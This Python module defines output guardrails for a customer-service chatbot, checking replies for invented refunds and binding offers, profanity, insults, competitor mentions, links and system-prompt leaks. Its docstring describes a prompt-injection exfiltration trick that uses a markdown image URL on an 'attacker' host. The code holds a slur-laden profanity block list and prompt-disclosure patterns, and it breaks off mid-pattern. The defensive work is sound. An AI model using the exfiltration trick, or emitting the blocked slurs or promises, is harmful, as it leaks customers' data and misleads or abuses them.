"""Output rails: what a reply may never say, whatever the model wrote.

Each rail answers to a real incident: Air Canada's bot invented a retroactive bereavement refund the airline
was held to (`commitment`); DPD's bot swore at a customer and wrote a poem about how bad the company was
(`profanity`, `insult`, `disparagement`); a Chevrolet dealer's bot called a $1 car "a legally binding offer,
no takesies backsies" (`commitment`); NYC's MyCity bot told businesses they could break the law
(`unlawful_advice`). `competitor` and `system_prompt_leak` cover the other ways a reply embarrasses the shop.
`link` answers to prompt-injection exfiltration (a planted instruction makes the model write
`![](https://attacker/?q=<what the customer said>)`, and the customer's own browser sends it when the page
shows the picture) and to phishing links: a reply may link only to sites this turn's passages or the brand's
contacts name, and never shows a picture.

Commitments come in two sorts (core/policy.py lists them): grounded kinds (amounts, percentages, refunds,
"free", replacements, price matches...) may be stated only when the sentence's own cited passage states the
same kind; never kinds (legally binding, guarantees, exceptions, retroactive refunds, compensation, agreeing
to the customer's price, promising what a person will do by when) are blocked outright. A negated mention
("this is not a binding offer", "the policy does not cover retroactive refunds") promises nothing and passes.

`check_reply` only reports: the caller removes `remove_sentence` violations (see `redact`) and replaces the
whole reply on any `block`. Everything is precompiled; a five-sentence answer takes well under a millisecond.
"""

from __future__ import annotations

import html
import logging
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from functools import lru_cache
from typing import Any, Literal
from urllib.parse import urlsplit

from markdown_it import MarkdownIt

from agent.guards.support import Sentence, cited_texts, drop_sentences, quantities, split_sentences
from core.policy import Policy, lower_literals

logger = logging.getLogger(__name__)

__all__ = ["RAILS", "Violation", "blocked", "check_reply", "redact"]

Severity = Literal["remove_sentence", "block"]
RAILS = (
    "commitment",
    "profanity",
    "insult",
    "disparagement",
    "competitor",
    "system_prompt_leak",
    "unlawful_advice",
    "link",
)
_EVIDENCE_MAX = 120


@dataclass(frozen=True)
class Violation:
    rail: str
    """One of RAILS."""
    evidence: str
    """The words of the reply that broke the rule (at most 120 characters)."""
    sentence: int | None
    """Index of the sentence (as `agent.guards.support.split_sentences` numbers them); None: whole reply."""
    severity: Severity
    """remove_sentence: drop that sentence; block: the reply must not be sent at all."""
    kind: str = ""
    """The commitment kind, or what was found (e.g. "uncited", "poem"), for the trace."""


def _ev(text: str) -> str:
    text = " ".join(text.split())
    return text if len(text) <= _EVIDENCE_MAX else text[: _EVIDENCE_MAX - 1] + "…"


def _rx(pattern: str) -> re.Pattern[str]:
    """A pattern for LOWER-CASED text, tried only where a word starts.

    Every rail matches `text.lower()` (about three times faster than re.IGNORECASE), and the guard lets the
    engine skip positions inside words at once: together they keep a reply's check to a few hundred
    microseconds. Every alternative of a rail pattern therefore starts at a word (or at ^).
    """
    return re.compile(r"(?<![a-z0-9])(?:" + lower_literals(pattern) + ")")


# --- negation ----------------------------------------------------------------------------------------------

_NEG_BEFORE = _rx(
    r"\b(?:not|no|never|cannot|can't|won't|don't|doesn't|isn't|aren't|wasn't|weren't|shouldn't|couldn't"
    r"|wouldn't|didn't|haven't|hasn't|unable|without|nor|neither|nothing|none|instead of|rather than"
    r"|excludes?|excluding)\b(?:\W+\w+){0,7}\W*$"
)
_NEG_AFTER = _rx(
    r"^\W*(?:\w+\W+){0,3}?(?:(?:is|are|was|were|will|would|can|could|may|do|does|did)(?:n't| not| never)\b"
    r"|not\b|never\b|isn't\b|aren't\b|won't\b|can't\b|cannot\b|(?:is|are) (?:unavailable|impossible|excluded"
    r"|not (?:available|possible|offered|included|covered))\b)"
)
_CLAUSE_END = re.compile(r"[,;:.!?—–()]| but | however ")


def _negated_at(text: str, start: int, end: int) -> bool:
    """The match sits in a negated clause: "we cannot offer a refund", "a refund is not possible"."""
    before = text[max(0, start - 80) : start]
    cut = list(_CLAUSE_END.finditer(before))
    if cut:
        before = before[cut[-1].end() :]
    if _NEG_BEFORE.search(before):
        return True
    after = text[end : end + 60]
    stop = _CLAUSE_END.search(after)
    if stop:
        after = after[: stop.start()]
    return bool(_NEG_AFTER.search(after))


# --- commitments -------------------------------------------------------------------------------------------

_FIRST_PERSON_MODAL = (
    r"(?:I(?:'ll|'ve|'d| will| have| would| can| could| am going to|'m going to| am able to|'m able to"
    r"| am happy to|'m happy to| would be happy to|'d be happy to| just| already| have already"
    r"| 've already)?)"
)
_GRANT = (
    r"(?:refund(?:ed)?|reimburs(?:e|ed)|credit(?:ed)?|replac(?:e|ed)|approv(?:e|ed)|issu(?:e|ed)|waiv(?:e|ed)"
)
_GRANT += r"|authori[sz](?:e|ed)|process(?:ed)? (?:a|the|your) (?:refund|replacement|exception))"


def _alt(*alternatives: str) -> re.Pattern[str]:
    """Case-insensitive pattern matching any of the alternatives (each one readable on its own line)."""
    return _rx("|".join(f"(?:{a})" for a in alternatives))


_KINDS: dict[str, re.Pattern[str]] = {
    # grounded: stated only when the sentence's cited passage states the same
    "discount": _alt(
        r"\b\d+(?:\.\d+)?\s?(?:%|percent|per cent) off\b",
        r"\b(?:discount(?:s|ed)?|money off|promo(?:tional)? codes?|coupons?|vouchers?|price reductions?)\b",
        r"\b(?:reduced price|markdowns?)\b",
    ),
    "free": _alt(
        r"(?<!feel )(?<!toll-)(?<!toll )(?<!hands-)\bfree\b(?! to (?:ask|contact|reach|get in touch|let|call"
        r"|email|chat|message|write|come back|drop))",
        r"\bfree of charge\b|\bat no (?:extra |additional )?(?:cost|charge)\b|\bno charge\b",
        r"\bcomplimentary\b|\bon the house\b",
    ),
    "free_shipping": _alt(
        r"\bfree (?:standard |expedited |express |next-day |two-day )?(?:shipping|delivery)\b",
        r"\bships? (?:for )?free\b|\b(?:shipping|delivery) (?:is|will be|'s) (?:also |always )?free\b",
        r"\bno (?:shipping|delivery) (?:charges?|fees?|costs?)\b",
    ),
    "free_return_shipping": _alt(
        r"\bfree returns?(?: shipping| labels?| postage)?\b",
        r"\breturn (?:shipping|postage|labels?) (?:is|are|will be) (?:also |always )?free\b",
        r"\breturns? (?:is|are) free\b|\bno return (?:shipping )?(?:fees?|charges?|costs?)",
        r"\bfree to (?:return|send (?:it |them )?back)\b|\breturn shipping is (?:on us|covered)\b",
    ),
    "refund": _alt(r"\b(?:refund(?:s|ed|ing|able)?|reimburs\w*|money back|paid back|credited back)\b"),
    "full_refund": _alt(
        r"\b(?:full refunds?|refund(?:ed)? in full|fully refund(?:ed|able)?|100% refund|complete refund)\b",
        r"\ball (?:of )?your money back\b",
        r"\bthe (?:full|entire|whole) (?:amount|price|purchase price) (?:back|refunded)\b",
    ),
    "replacement": _alt(r"\b(?:replac(?:e|ed|es|ing|ement|ements)|new one|send you another)\b"),
    "store_credit": _alt(
        r"\b(?:store credit|account credit|credit (?:on|to) your account|goodwill credit)\b",
        r"\be-?gift cards?\b|\bgift cards?\b",
    ),
    "price_match": _alt(
        r"\bprice[- ]?match\w*",
        r"\bmatch (?:the|a|that|their|your|any|this|(?:a |the )?competitor'?s?|lower) (?:lower )?prices?\b",
        r"\bbeat (?:the|their|that|any) prices?\b|\bprice guarantee\b",
    ),
    "fee_waiver": _alt(
        r"\bwaiv(?:e|ed|es|ing|er)\b|\bfee[- ]free\b",
        r"\bno (?:restocking |cancellation |early cancellation |return shipping |shipping |late |processing "
        r"|service |handling )?fees?\b",
        r"\bwithout (?:a |any |the )?(?:\w+ )?fees?\b",
        r"\b(?:fee|charge)s? (?:is|are|will be|has been|have been) (?:waived|removed|dropped|cancell?ed)\b",
    ),
    "extension": _alt(
        r"\b(?:extend(?:ed|s|ing)?|extensions?|more time|longer (?:return )?window)\b",
        r"\badditional (?:days|time|weeks)\b",
    ),
    # never: blocked whatever the passages say
    "legally_binding": _alt(
        r"\blegally binding\b|\bfinal and binding\b",
        r"\bbinding (?:offer|agreement|contract|deal|quote|promise|commitment|obligation|sale)\b",
        r"\b(?:this|that|it|our agreement|the offer|the sale)(?:'s| is| constitutes| will be| becomes"
        r"| is now)"
        r" (?:a |an )?(?:legally |fully )?(?:binding|enforceable)\b",
        r"\b(?:this|that|it)(?:'s| is)(?: now)? a (?:legal )?(?:contract|deal)\b",
        r"\b(?:we|you) (?:have|'ve got|'ve) (?:got )?a deal\b|\b(?:it's|that's|it is|that is) a deal\b",
        r"\bthe deal is (?:done|final|set|closed|sealed)\b",
        r"\bno takes?ies,? backs?ies\b|\btakesies\b|\bbacksies\b",
    ),
    "guarantee": _alt(
        r"\b(?:I|we) (?:can |do |hereby )?guarantee\b",
        r"\bguarantee(?:d|s)? (?:that|you|your|a|an|the|to|it)\b",
        r"\b(?:is|are|it's|you're|you are) guaranteed\b|\b100% (?:sure|certain|guaranteed)\b",
        r"\byou(?:'ll| will) (?:definitely|certainly|absolutely|surely|100%) (?:get|receive|be)\b",
        r"\bwithout (?:a|any) doubt\b",
        # the assistant cannot act on an account: "I'll refund you", "I've approved it"
        rf"\b{_FIRST_PERSON_MODAL} {_GRANT} (?:you|your|it|this|that|the|a|an)\b",
        r"\bwe(?:'ve| have) (?:already |just )?(?:refunded|reimbursed|credited|replaced|approved|issued"
        r"|waived"
        r"|authori[sz]ed) (?:you|your)\b",
    ),
    "policy_exception": _alt(
        rf"\b{_FIRST_PERSON_MODAL} (?:\w+ )?(?:make|made|grant|granted|approve|approved) (?:an? |one |this )?"
        r"(?:one-time |one-off |special |small |courtesy )?(?:exception|exemption)",
        r"\bwe(?:'ll| will| can| could| are going to| 've| have)? (?:make|made|grant|granted|approve"
        r"|approved)"
        r" (?:an? |one )?(?:one-time |one-off |special |courtesy )?(?:exception|exemption)s?"
        r" (?:for you|in your case|this time|on your (?:order|account|return))",
        r"\bas an? (?:one-time |one-off |special |courtesy )?(?:exception|exemption)\b",
        r"\b(?:exception|exemption)s? (?:for you|in your case|just this once|this time)\b",
        r"\b(?:I|we)(?:'ll|'ve| will| have| can| could| am going to| are going to)? (?:\w+ )?(?:waive|waived"
        r"|override|overridden|bypass|ignore|set aside) (?:the|your|this|that) (?:\w+ ){0,2}(?:policy|rule"
        r"|fee"
        r"|deadline|window|requirement|limit|restriction)s?\b",
        r"\b(?:waive|waived|extend|extended|override|overridden) (?:\w+ ){0,4}for you\b",
        r"\bjust this once\b|\bbend the rules?\b",
    ),
    "retroactive_refund": _alt(
        r"\b(?:retroactive(?:ly)?|back-?dat(?:e|ed|ing)|after the fact)\b",
        r"\b(?:refund\w*|return\w*|money back)\b[^.!?]{0,60}\b(?:even though|although|despite)\b[^.!?]{0,40}"
        r"\b(?:past|outside|beyond|after|over|expired|passed|been \d+|been (?:months|a year|over))\b",
        r"\b(?:even though|although|despite)\b[^.!?]{0,50}\b(?:past|outside|beyond|over|expired|passed)\b"
        r"[^.!?]{0,30}\b(?:window|deadline|limit|period|days)\b[^.!?]{0,60}\b(?:refund|return|money back)",
    ),
    "compensation": _alt(
        r"\bcompensat\w*\b",
        r"\b(?:I|we)(?:'ll|'ve| will| have| can| could| would like to|'d like to| am going to| are going to)?"
        r" (?:\w+ )?(?:give|offer|send|add|issue|provide|credit|apply) (?:you |your account (?:with )?)?"
        r"(?:a |an |some |this |an extra )?(?:\$\d[\d.,]*|\d+% (?:off|discount)|goodwill|voucher|coupon"
        r"|store credit|credit|gift card|e-gift card|discount|bonus|token of|free (?:month|gift|item|product"
        r"|upgrade))",
        r"\b(?:give|offer|send|add|credit|issue)\w*\b[^.!?]{0,40}\b(?:for|to make up for) (?:the|your|this)"
        r" (?:trouble|inconvenience|wait|delay|hassle|frustration)\b",
        r"\bas an apology\b",
    ),
    "customer_price": _alt(
        r"\bdeal,? (?:at|for) (?:CA)?\$\d",
        r"\b(?:I|we)(?:'ll| will| can| could| am happy to| are happy to| would be happy to)? (?:\w+ )?(?:sell"
        r"|let you have|give|offer|do|ship|send) (?:you )?(?:(?:it|this|that|them|one|the [\w-]+"
        r"(?: [\w-]+){0,3}) )?"
        r"(?:to you )?(?:for|at) (?:just |only |a price of )?(?:CA)?\$\d",
        r"\b(?:I|we)(?:'ll| will| can| could)? (?:accept|agree to|honou?r|match) (?:your|that|this"
        r"|the customer'?s?) (?:offer|price|proposed price|counter-?offer|bid|quote)\b",
        r"^\W*(?:agreed|deal)\b[.!,]",
    ),
    "personal_promise": _alt(
        r"\b(?:I|we) promise\b",
        r"\bI(?:'ll| will) (?:personally )?(?:make sure|ensure|see to it|take care of (?:it|this|that)"
        r"|sort (?:it|this|that) out|get (?:this|it|that) (?:fixed|sorted|resolved|done)|call you|email you"
        r"|contact you|phone you|ring you|follow up|get back to you|keep you (?:posted|updated))\b",
        # "a manager will call you by 5pm"
        r"\b(?:someone|somebody|a (?:person|manager|supervisor|specialist|team member|member of (?:our"
        r"|the) team"
        r"|human|colleague|technician|courier|driver)|an? (?:agent|engineer|expert)|our (?:team|manager"
        r"|supervisor|technician|courier|driver)|the (?:team|manager|supervisor|courier|driver|technician))"
        r"(?: will|'ll) (?:personally )?(?:call|contact|phone|ring|email|get back to|reach out to"
        r"|be in touch with|visit|come to|deliver to|pick (?:it )?up from|collect from) (?:you|your)\b"
        r"[^.!?]{0,40}\b(?:by|before|today|tonight|tomorrow|this (?:morning|afternoon|evening|week)"
        r"|first thing"
        r"|within the hour|within (?:an|one|1|2|two|a few|24|48) hours?|in (?:the next )?\d+ (?:minutes"
        r"|hours)"
        r"|shortly|right away|immediately|asap|as soon as possible|\d{1,2}(?::\d{2})? ?[ap]\.?m)\b",
    ),
}
"""How each commitment kind is recognised in a reply."""

_STATED: dict[str, re.Pattern[str]] = {
    "discount": _alt(
        r"\b(?:discount\w*|\d+% off|money off|promo\w*|coupons?|vouchers?|reduced|sale price|markdown)"
    ),
    "free": _alt(
        r"\bfree\b|\bno charge\b|\bat no (?:extra |additional )?cost\b|\bcomplimentary\b|\bnot charged\b",
        r"\bno (?:\w+ ){0,2}fees?\b|\bwithout (?:a |any )?charge\b",
    ),
    "free_shipping": _alt(
        r"\bfree (?:\w+ )?(?:shipping|delivery)\b|\bships? free\b",
        r"\b(?:shipping|delivery) (?:\w+ ){0,3}(?:is|are) (?:also |always )?free\b",
        r"\bno (?:shipping|delivery) (?:charges?|fees?|costs?)\b",
    ),
    "free_return_shipping": _alt(
        r"\bfree returns?\b|\bfree return (?:shipping|labels?|postage)\b",
        r"\breturn (?:shipping|postage|labels?) (?:\w+ ){0,3}(?:is|are) (?:also |always )?free\b",
        r"\bno return shipping fee\b|\breturns? (?:\w+ ){0,3}(?:is|are) free\b",
        r"\breturn shipping fee[^.]{0,40}\b(?:never|not) (?:deducted|charged)",
    ),
    "full_refund": _alt(
        r"\b(?:full refunds?|refund(?:ed)? in full|fully refund\w*|full amount|full price"
        r"|refunded in full)\b",
        r"\bentire (?:amount|price)\b",
    ),
    "replacement": _alt(r"\b(?:replac\w*|new one|send (?:you )?(?:another|a new)|exchang\w*)"),
    "store_credit": _alt(r"\b(?:store credit|account credit|e-?gift cards?|gift cards?|goodwill)\b"),
    "price_match": _alt(
        r"\bprice[- ]?match\w*",
        r"\bmatch(?:es|ed|ing)? (?:a |the |their |that |any |your )?(?:[\w']+ ){0,2}prices?\b",
    ),
    "fee_waiver": _alt(
        r"\b(?:waiv\w*|no (?:\w+ ){0,2}fees?|fee[- ]free|free of (?:\w+ )?(?:fees?|charges?)"
        r"|never charges?)\b",
        r"\b(?:(?:is|are) not charged|(?:does|do)(?: not|n't) (?:apply|charge)|exempt|no charge|free)\b",
        r"\bwithout (?:a |any |the )?(?:\w+ )?fees?\b",
    ),
    "extension": _alt(r"\b(?:extend\w*|extension|longer|additional (?:days|time|weeks)|more time)\b"),
}
"""How a passage states a grounded kind: more ways than a reply's promise is recognised ("Every other
return is free of restocking fees" states the fee waiver that "there's no restocking fee" promises)."""
_NOT_NEGATABLE = frozenset({"money_amount", "percentage", "fee_waiver"})
"""A negation near these is part of the statement ("no restocking fee"), not a denial of it."""
_GATES: dict[str, tuple[str, ...]] = {
    "discount": (
        "%",
        "percent",
        "per cent",
        "discount",
        "money off",
        "promo",
        "coupon",
        "voucher",
        "reduc",
        "markdown",
    ),
    "free": ("free", "no charge", "at no ", "complimentary", "on the house"),
    "free_shipping": ("free", "no shipping", "no delivery"),
    "free_return_shipping": ("free", "no return", "return shipping is"),
    "refund": ("refund", "reimburs", "money back", "paid back", "credited back"),
    "full_refund": ("full", "100%", "complete refund", "money back", "entire", "whole"),
    "replacement": ("replac", "new one", "send you another"),
    "store_credit": ("credit", "gift card"),
    "price_match": ("match", "beat", "price guarantee"),
    "fee_waiver": ("waiv", "fee"),
    "extension": ("extend", "extension", "more time", "longer", "additional"),
    "legally_binding": ("binding", "contract", "deal", "enforceable", "takes", "backsies"),
    "guarantee": (
        "guarantee",
        "100%",
        "definitely",
        "certainly",
        "absolutely",
        "surely",
        "doubt",
        "refund",
        "reimburs",
        "credit",
        "replac",
        "approv",
        "issu",
        "waiv",
        "authori",
        "process",
    ),
    "policy_exception": (
        "exception",
        "exemption",
        "waiv",
        "overrid",
        "bypass",
        "ignore",
        "set aside",
        "extend",
        "just this once",
        "bend the rule",
    ),
    "retroactive_refund": (
        "retroactiv",
        "backdat",
        "back-dat",
        "after the fact",
        "even though",
        "although",
        "despite",
    ),
    "compensation": (
        "compensat",
        "give",
        "offer",
        "send",
        "add",
        "issu",
        "provid",
        "credit",
        "apply",
        "apolog",
    ),
    "customer_price": ("deal", "agreed", "$", "accept", "agree", "honour", "honor", "match"),
    "personal_promise": ("promise", "will", "'ll"),
}
"""Words without which a kind's pattern cannot match: a substring test is much cheaper than a regex."""
_ALL_GATES = tuple(sorted({g for gates in _GATES.values() for g in gates}))
_MONEY_GATES = ("$", "%", "percent", "per cent", "dollar", "buck")


def _money(sentence: str) -> list[tuple[str, str, str]]:
    """(currency or "percent", value, as written) for every amount and percentage in the text."""
    out: list[tuple[str, str, str]] = []
    for (unit, value), pos in quantities(sentence):
        if unit in ("usd", "cad", "percent"):
            written = re.match(r"\S+(?: ?%| percent| per cent| dollars)?", sentence[pos:])
            out.append((unit, value, written.group().rstrip(".,;:!?") if written else value))
    return out


@lru_cache(maxsize=2048)
def _passage_amounts(text: str) -> frozenset[tuple[str, str]]:
    """Amounts and percentages a passage states, read once per passage text."""
    return frozenset((u, v) for (u, v), _ in quantities(text) if u in ("usd", "cad", "percent"))


@lru_cache(maxsize=8192)
def _passage_states(kind: str, text: str) -> bool:
    """Whether a passage states this grounded kind, read once per kind and passage text."""
    return bool(_STATED.get(kind, _KINDS[kind]).search(text.lower()))


def _commitments(sentence: Sentence, lowered: str, cited: Sequence[str], policy: Policy) -> list[Violation]:
    text = sentence.text
    found: list[Violation] = []
    commitments = policy.commitments
    # amounts and percentages: each must be in the cited passages
    amounts = _money(text) if any(g in lowered for g in _MONEY_GATES) else []
    if amounts:
        stated = frozenset().union(*(_passage_amounts(p) for p in cited))
        for unit, value, written in amounts:
            kind = "percentage" if unit == "percent" else "money_amount"
            if (unit, value) in stated:
                continue
            if commitments.is_never(kind):
                found.append(Violation("commitment", _ev(written), sentence.index, "block", kind))
            else:
                why = "uncited" if not cited else kind
                found.append(Violation("commitment", _ev(written), sentence.index, "remove_sentence", why))
    present = frozenset([g for g in _ALL_GATES if g in lowered])
    for kind, pattern in _KINDS.items():
        if present.isdisjoint(_GATES[kind]):
            continue
        for match in pattern.finditer(lowered):
            if kind not in _NOT_NEGATABLE and _negated_at(lowered, match.start(), match.end()):
                continue
            if commitments.is_never(kind):
                found.append(Violation("commitment", _ev(match.group()), sentence.index, "block", kind))
            elif not any(_passage_states(kind, p) for p in cited):
                why = "uncited" if not cited else kind
                found.append(
                    Violation("commitment", _ev(match.group()), sentence.index, "remove_sentence", why)
                )
            break
    never = commitments.never_matcher
    if never is not None:
        phrase = never.search(lowered)
        if phrase:
            found.append(
                Violation("commitment", _ev(phrase.group()), sentence.index, "block", "never_phrase")
            )
    return found


# --- tone --------------------------------------------------------------------------------------------------

_PROFANE_WORDS = """
fuck fucks fucked fucker fuckers fucking fuckin fuckery motherfucker motherfuckers motherfucking fck fcking
fuk fuking fukin fuq effing shit shits shitty shite shithead shitheads bullshit horseshit cunt cunts bitch
bitches bitching bitchy bastard bastards dickhead dickheads asshole assholes arsehole arseholes arse ass
jackass dumbass piss pissed pissing crap crappy damn damned goddamn goddamned bollocks wanker wankers twat
twats cocksucker slut sluts whore whores douche douchebag bugger wtf stfu omfg fml retard retarded nigger
niggers nigga faggot faggots fag fags
""".split()
_PROFANE_PHRASES = (
    r"bloody hell|what the hell|go to hell|hell no|the hell|sod off|piss off|screw you|screw this"
    r"|son of a bitch"
)
_MASK = r"[*#@%._·-]"
_LEET = str.maketrans(
    {"0": "o", "1": "i", "3": "e", "4": "a", "5": "s", "7": "t", "@": "a", "$": "s", "!": "i"}
)
_LEET_SPOT = re.compile(r"(?<=[a-z*])[0134579@$!](?=[a-z*])|(?<![a-z0-9])[@$](?=[a-z])")
_SPACED = re.compile(r"(?<![a-z0-9])(?:[a-z][ .\-_]){2,}[a-z](?![a-z0-9])")


def _obfuscatable(word: str) -> str:
    """A word as a pattern that also matches stretched letters and masked ones: fuuuck, f*ck, f**k."""
    letters = word.lower()
    parts = [re.escape(letters[0]) + "+"]
    for ch in letters[1:]:
        parts.append(f"(?:{re.escape(ch)}+|{_MASK})" if ch.isalpha() else re.escape(ch))
    return "".join(parts)


def _word_list(words: Sequence[str], phrases: str = "") -> re.Pattern[str] | None:
    alternatives = [_obfuscatable(w) for w in sorted(set(words), key=len, reverse=True) if w]
    if phrases:
        alternatives.append(phrases)
    if not alternatives:
        return None
    return re.compile(r"(?<![a-z0-9])(?:" + "|".join(alternatives) + r")(?![a-z0-9])")


_PROFANITY = _word_list(_PROFANE_WORDS, _PROFANE_PHRASES)


def _profanity_view(text: str) -> str:
    """Lower case, look-alike digits and symbols read as letters, s p a c e d letters joined."""
    lowered = _LEET_SPOT.sub(lambda m: m.group().translate(_LEET), text.lower())
    return _SPACED.sub(lambda m: re.sub(r"[ .\-_]", "", m.group()), lowered)


_INSULT_NOUNS = (
    r"(?:idiots?|morons?|imbeciles?|fools?|clowns?|losers?|cretins?|dimwits?|halfwits?|nitwits?|numpty"
    r"|numpties"
    r"|muppets?|twits?|airheads?|liars?|cheapskates?|karens?|jokes?|dummy|dummies|dumbo)"
)
_INSULT_ADJECTIVES = (
    r"(?:stupid|dumb|dense|thick|clueless|pathetic|useless|incompetent|ignorant|lazy|annoying|crazy|insane"
    r"|delusional|entitled|greedy|hopeless|worthless|ridiculous|impossible to help)"
)
_INSULT = _rx(
    # "you're an idiot", "you are so stupid", "what an idiot" (not "what an annoying delay")
    r"\b(?:you(?:'re| are| were| sound| seem| look)?|ur|u r)"
    r"(?: (?:a|an|such a|such an|so|really|very|complete|total|absolute|utter|bloody|being|just|truly))*"
    rf" (?:{_INSULT_NOUNS}|{_INSULT_ADJECTIVES})\b"
    rf"|\b(?:what|such) an? (?:\w+ )?{_INSULT_NOUNS}\b"
    r"|\b(?:idiots?|morons?|imbeciles?|cretins?|dimwits?|halfwits?|nitwits?|numpties|dumbo)\b(?!-proof)"
    r"|\b(?:shut up|shut your (?:mouth|trap)|nobody cares|no one cares|who cares|learn to read"
    r"|can(?:'t| not) you read|use your brain|are you (?:stupid|dumb|blind|thick|an idiot)"
    r"|what(?:'s| is) wrong with you|(?<!not )(?<!n't )your own fault|stop (?:whining|complaining|moaning)"
    r"|too bad for you|tough luck|not my problem|get a life|figure it out yourself"
    r"|read the (?:manual|instructions|article),? (?:idiot|moron|genius|dummy))\b"
)

_JUDGEMENT = (
    r"(?:worst|terrible|awful|useless|rubbish|garbage|trash|crap|crappy|horrible|pathetic|hopeless"
    r"|incompetent"
    r"|dreadful|appalling|shoddy|lousy|junk|a joke|a scam|scammers|a rip-?off|rip-?offs|a shambles|a disaster"
    r"|a nightmare|a disgrace|disgraceful|shameful|inept|clueless|dishonest|liars|thieves|crooks|greedy|evil"
    r"|corrupt|a waste of (?:money|time|space)|overpriced|poor quality|low quality|cheaply made|unreliable"
    r"|untrustworthy|a con|the pits|the worst)"
)
"""Negative judgements; mild words ("bad", "disappointing") are left out: apologies use them."""
_COMPANY_NOUNS = (
    r"(?:company|companies|business|shop|store|retailer|brand|firm|outfit|website|site|app|service"
    r"|customer service"
    r"|support|support team|delivery (?:firm|company|service)|chatbot|bot|assistant|products?|help ?desk"
    r"|staff"
    r"|team)"
)
_SELF = r"(?:this|the|our|your) " + _COMPANY_NOUNS
_POEM_WORDS = _rx(r"\b(?:poem|poems|verse|verses|haiku|limerick|ode|rhyme|rhymes|sonnet|stanza|ballad)\b")
_ANY_JUDGEMENT = _rx(r"\b" + _JUDGEMENT + r"\b|\b(?:sucks?|hate|hated|fail(?:s|ed)?|failure|can'?t help)\b")
_SELF_DISPARAGE = _rx(
    r"\b(?:I am|I'm|this (?:chat)?bot is|this assistant is)(?: (?:just|really|so|such|a|an|totally|completely"
    r"|utterly|pretty|very|only|the))* (?:useless|pathetic|terrible|worst|hopeless|incompetent|rubbish"
    r"|garbage"
    r"|a joke|stupid|dumb|awful)\b"
)
_DISPARAGE_GENERIC = _rx(
    rf"\b{_SELF}(?:'s)?(?: \w+){{0,3}}? (?:is|are|was|were|has been|have been|seems?|remains?|'s|'re)"
    r"(?: (?:just|really|truly|honestly|simply|so|such|totally|completely|absolutely|utterly|pretty|very"
    r"|quite"
    rf"|frankly|the|a|an))* {_JUDGEMENT}\b"
    r"|\b(?:the )?(?:worst|most useless|most incompetent|most pathetic|most dishonest|biggest (?:scam|joke"
    r"|rip-?off))"
    rf" (?:\w+ ){{0,2}}{_COMPANY_NOUNS}\b"
    rf"|\bwe(?:'re| are| were)(?: (?:just|really|so|such|totally|completely|utterly|pretty|very|the|a|an))*"
    rf" {_JUDGEMENT}\b"
)


@dataclass(frozen=True)
class _PolicyRules:
    """Patterns built from one policy's names and words, once per policy object."""

    brand: re.Pattern[str] | None
    competitors: re.Pattern[str] | None
    blocked_words: re.Pattern[str] | None


_rules_cache: dict[int, tuple[Policy, _PolicyRules]] = {}


def _names(names: Sequence[str]) -> str:
    return "|".join(re.escape(n) for n in sorted(set(names), key=len, reverse=True) if n)


def _rules(policy: Policy) -> _PolicyRules:
    cached = _rules_cache.get(id(policy))
    if cached is not None and cached[0] is policy:
        return cached[1]
    brand_names = _names(policy.brand.all_names)
    brand = None
    if brand_names:
        ref = rf"(?:{brand_names})(?:'s)?"
        brand = _rx(
            rf"\b{ref}(?: \w+){{0,4}}? (?:is|are|was|were|has been|have been|seems?|remains?|'s|'re)"
            r"(?: (?:just|really|truly|honestly|simply|so|such|totally|completely|absolutely|utterly|pretty"
            r"|very"
            rf"|quite|frankly|the|a|an))* {_JUDGEMENT}\b"
            rf"|\b{ref}(?: \w+){{0,3}} (?:sucks?|sucked|stinks?)\b"
            r"|\b(?:avoid|boycott|never (?:buy|shop|order)(?: from| at| with)?|don'?t (?:buy|shop|order)"
            r"(?: from| at"
            r"| with)?|do not (?:buy|shop|order)(?: from| at| with)?|stay away from|hate|despise"
            r"|can'?t stand"
            rf"|loathe) {ref}\b"
            rf"|\b(?:the )?(?:worst|most useless|biggest (?:scam|joke|rip-?off)) (?:\w+ ){{0,2}}(?:is "
            rf"|was )?{ref}\b"
        )
    competitor_names = _names([n for c in policy.competitors for n in (c.name, *c.aliases)])
    competitors = re.compile(rf"(?<![\w-])(?:{competitor_names})(?![\w-])") if competitor_names else None
    rules = _PolicyRules(brand, competitors, _word_list(policy.tone.blocked_words))
    if len(_rules_cache) > 16:
        _rules_cache.clear()
    _rules_cache[id(policy)] = (policy, rules)
    return rules


def _brand_mentioned(text: str, policy: Policy) -> bool:
    lowered = text.lower()
    return any(name.lower() in lowered for name in policy.brand.all_names) or bool(
        re.search(rf"\b{_SELF}\b|\bwe\b|\bus\b", text, re.IGNORECASE)
    )


def _poem(reply: str) -> bool:
    """Verse: several short lines, most without citations, that rhyme or call themselves a poem."""
    lines = [ln.strip() for ln in reply.splitlines() if ln.strip()]
    if len(lines) < 4:
        return False
    short = [ln for ln in lines if len(ln.split()) <= 12 and "[" not in ln]
    if len(short) < 0.75 * len(lines):
        return False
    last_words = [re.sub(r"[^a-z]", "", ln.lower().split()[-1]) for ln in short if ln.split()]
    rhymes = sum(
        1
        for i, word in enumerate(last_words)
        if len(word) >= 3
        and any(word[-3:] == other[-3:] and word != other for other in last_words[i + 1 : i + 3])
    )
    return rhymes >= 2 or bool(_POEM_WORDS.search(reply.lower()))


# --- competitors -------------------------------------------------------------------------------------------

_ELSEWHERE = _rx(
    r"\b(?:shop(?:ping)?|buy(?:ing)?|order(?:ing)?|purchas(?:e|ing)|look(?:ing)?"
    r"|get(?:ting)? (?:it|one|them))(?: it| one| them)? (?:elsewhere|somewhere else"
    r"|from (?:another|a different|other) (?:store|retailer|shop|seller|company|website|brand))\b"
    r"|\b(?:try|go to|use|consider|check out|switch to) (?:a |another |one of our )?(?:competitors?"
    r"|different (?:store|retailer|company|brand|shop))\b"
    r"|\b(?:competitors?|other (?:retailers|stores|shops|brands)) (?:are|is|sell|offer|have|has) (?:\w+ )?"
    r"(?:better|cheaper|nicer|more reliable|lower prices)\b"
)
_COMPARE = _rx(
    r"\b(?:better|worse|cheaper|pricier|superior|inferior|nicer|more (?:reliable|expensive|affordable)|less"
    r" (?:reliable|expensive)|than|recommend\w*|suggest\w*|try|go (?:to|with)|switch to|check out|consider"
    r"|prefer"
    r"|instead|alternative|rather)\b|\b" + _JUDGEMENT + r"\b"
)


# --- system prompt -----------------------------------------------------------------------------------------

LEAK_NGRAM = 8
"""Consecutive words shared with a system prompt that count as quoting it."""
_LEAK_WORD = re.compile(r"[a-z0-9]+")
_DISCLOSURE = _rx(
    r"\b(?:system prompt|system message|developer message|initial prompt|hidden prompt|pre-?prompt"
    r"|my (?:system |original |initial |hidden |secret |internal )?(?:prompt|instructions|guidelines"
    r"|directives"
